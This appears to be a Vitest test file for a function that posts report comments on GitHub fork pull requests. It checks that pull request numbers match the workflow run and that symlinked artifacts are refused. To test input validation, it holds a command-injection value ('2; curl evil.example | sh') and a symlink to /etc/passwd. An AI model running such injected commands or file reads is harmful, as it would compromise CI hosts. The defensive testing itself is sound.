import { mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createGitHubClient, type GitHubClient } from "../../core/github/client.ts";
import { postReportComment } from "../../core/github/post-report.ts";
import { REPORT_MARKER } from "../../core/github/sticky-comment.ts";
import { type GitHubApiServer, startGitHubApi } from "../support/github-api/server.ts";
import { BOT_LOGIN } from "../support/github-api/state.ts";
import { BASE_REPOSITORY, FORK_REPOSITORY, forkPullRequestEvent, workflowRunEvent } from "../support/webhook-events.ts";

const HEAD = "ec26c3e57ca3a959ca5aad62de7213c562f8c821";
const repository = { owner: "Codertocat", repo: "Hello-World" };
let server: GitHubApiServer;
let client: GitHubClient;
let reportPath: string;

beforeEach(async () => {
  server = await startGitHubApi(BASE_REPOSITORY);
  server.repository.addPullRequest(2, { sha: HEAD, ref: "changes", repoFullName: FORK_REPOSITORY, fork: true });
  server.repository.addPullRequest(3, {
    sha: "b".repeat(40),
    ref: "other",
    repoFullName: "eve/Hello-World",
    fork: true,
  });
  client = createGitHubClient({ token: "ghs_local", baseUrl: server.url, timeScale: 1, paceWrites: false });
  const dir = mkdtempSync(join(tmpdir(), "almanac-report-"));
  reportPath = join(dir, "report.md");
  writeFileSync(
    reportPath,
    `${REPORT_MARKER}\n## Almanac report\n\n| model | accuracy |\n|---|---|\n| penguin-species | 0.97 |\n`,
  );
});

afterEach(async () => {
  expect(server.violations).toEqual([]);
  await server.close();
});

const forkRun = (overrides: Partial<Parameters<typeof workflowRunEvent>[0]> = {}) =>
  workflowRunEvent({
    repository: BASE_REPOSITORY,
    headSha: HEAD,
    headBranch: "changes",
    headRepository: FORK_REPOSITORY,
    pullRequests: [],
    ...overrides,
  });

const post = (payload: object, pullRequestNumber: string, eventName = "workflow_run") =>
  postReportComment(client, { repository, eventName, payload, reportPath, pullRequestNumber, author: BOT_LOGIN });

describe("postReportComment", () => {
  it("posts on a fork's pull request after checking its head against the run (pull_requests is empty)", async () => {
    const result = await post(forkRun(), "2\n");
    expect(result).toMatchObject({ kind: "posted", issueNumber: 2, action: "created" });
    expect(server.calls("pulls/get").map((r) => r.path)).toEqual(["/repos/Codertocat/Hello-World/pulls/2"]);
    expect(server.repository.commentsOn(2).map((c) => c.body)).toEqual([
      `${REPORT_MARKER}\n## Almanac report\n\n| model | accuracy |\n|---|---|\n| penguin-species | 0.97 |\n`,
    ]);
  });

  it("uses the run's own pull_requests list for a same-repository pull request", async () => {
    const payload = forkRun({ headRepository: BASE_REPOSITORY, pullRequests: [{ number: 2, sha: HEAD }] });
    expect(await post(payload, "2")).toMatchObject({ kind: "posted", issueNumber: 2 });
    expect(server.calls("pulls/get")).toEqual([]);
  });

  it("refuses a pull request number the run does not list", async () => {
    const payload = forkRun({ headRepository: BASE_REPOSITORY, pullRequests: [{ number: 2, sha: HEAD }] });
    await expect(post(payload, "3")).rejects.toThrow(
      "refusing to comment: the report claims pull request #3, but its head is in eve/Hello-World, the run's in Codertocat/Hello-World",
    );
    expect(server.calls("issues/create-comment")).toEqual([]);
  });

  it("does not trust a listed pull request whose base is another repository", async () => {
    const payload = forkRun({ pullRequests: [{ number: 3, sha: HEAD, baseRepositoryId: 987_654_321 }] });
    await expect(post(payload, "3")).rejects.toThrow(
      "refusing to comment: the report claims pull request #3, but its head is in eve/Hello-World, the run's in mallory/Hello-World",
    );
    expect(server.calls("pulls/get").map((r) => r.path)).toEqual(["/repos/Codertocat/Hello-World/pulls/3"]);
    expect(server.repository.comments).toEqual([]);
  });

  it("refuses when the head repository has no name on either side (a deleted fork)", async () => {
    server.repository.addPullRequest(4, { sha: HEAD, ref: "changes", repoFullName: "", fork: true });
    await expect(post(forkRun({ headRepository: "" }), "4")).rejects.toThrow(
      "refusing to comment: the report claims pull request #4, but its head is in a deleted repository, the run's in ?",
    );
    expect(server.repository.comments).toEqual([]);
  });

  it("refuses another fork's pull request number", async () => {
    await expect(post(forkRun(), "3")).rejects.toThrow(
      "refusing to comment: the report claims pull request #3, but its head is in eve/Hello-World, the run's in mallory/Hello-World",
    );
    expect(server.repository.comments).toEqual([]);
  });

  it("refuses a number that is not a pull request", async () => {
    await expect(post(forkRun(), "999")).rejects.toThrow("no such pull request exists in this repository");
  });

  it("refuses anything but digits in the pull request number", async () => {
    await expect(post(forkRun(), "2; curl evil.example | sh")).rejects.toThrow(
      'the report\'s pull request number is not a number: "2; curl evil.example | sh"',
    );
    expect(server.requests).toEqual([]);
  });

  it("skips when the pull request has moved on to a newer commit", async () => {
    server.repository.issue(2)!.head!.sha = "c".repeat(40);
    expect(await post(forkRun(), "2")).toEqual({
      kind: "skipped",
      reason: "#2 has moved on to ccccccc; a newer run will report",
    });
    expect(server.repository.comments).toEqual([]);
  });

  it("skips runs that did not come from a pull request", async () => {
    expect(await post(forkRun({ event: "push" }), "2")).toEqual({
      kind: "skipped",
      reason: "the triggering run came from a push event, not a pull request",
    });
  });

  it("checks the number against a pull_request event (real fork payload)", async () => {
    const event = forkPullRequestEvent("synchronize");
    expect(await post(event, "2", "pull_request")).toMatchObject({ kind: "posted", issueNumber: 2 });
    await expect(post(event, "3", "pull_request")).rejects.toThrow("this pull_request event is for #2");
  });

  it("refuses to follow a symlink out of the artifact", async () => {
    const link = join(mkdtempSync(join(tmpdir(), "almanac-link-")), "report.md");
    symlinkSync("/etc/passwd", link);
    await expect(
      postReportComment(client, {
        repository,
        eventName: "workflow_run",
        payload: forkRun(),
        reportPath: link,
        pullRequestNumber: "2",
      }),
    ).rejects.toThrow("is not a regular file (a symlink or folder); refusing to read it");
    expect(server.repository.comments).toEqual([]);
  });
});
